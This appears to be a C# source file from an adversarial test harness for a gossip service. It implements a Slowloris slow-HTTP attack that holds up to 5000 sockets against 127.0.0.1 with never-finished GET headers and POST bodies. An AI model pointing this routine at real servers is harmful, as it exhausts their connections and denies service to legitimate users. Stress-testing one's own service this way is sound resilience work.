using System.Text;

namespace Gossip.Adversary.Attacks;

/// <summary>
/// Requests that never end (the Slowloris): half sends a header byte now and then, half a body.
/// </summary>
internal static class SlowHttp
{
    public const int SocketsMax = 5000;

    private static readonly byte[] Head = Encoding.ASCII.GetBytes(
        "GET /status HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ");

    private static readonly byte[] Post = Encoding.ASCII.GetBytes(
        "POST /topics/news/entries HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 100000\r\n\r\n");

    public static Task RunAsync(AttackOrder order, CancellationToken stop) => Sockets.HoldAsync(
        order, order.Api.Authority, SocketsMax, async (socket, number, step, stopped) =>
        {
            var bytes = step > 0 ? "x"u8.ToArray()
                : number % 2 == 0 ? Head
                : Post;
            await socket.SendAsync(bytes, stopped);
        }, stop);
}
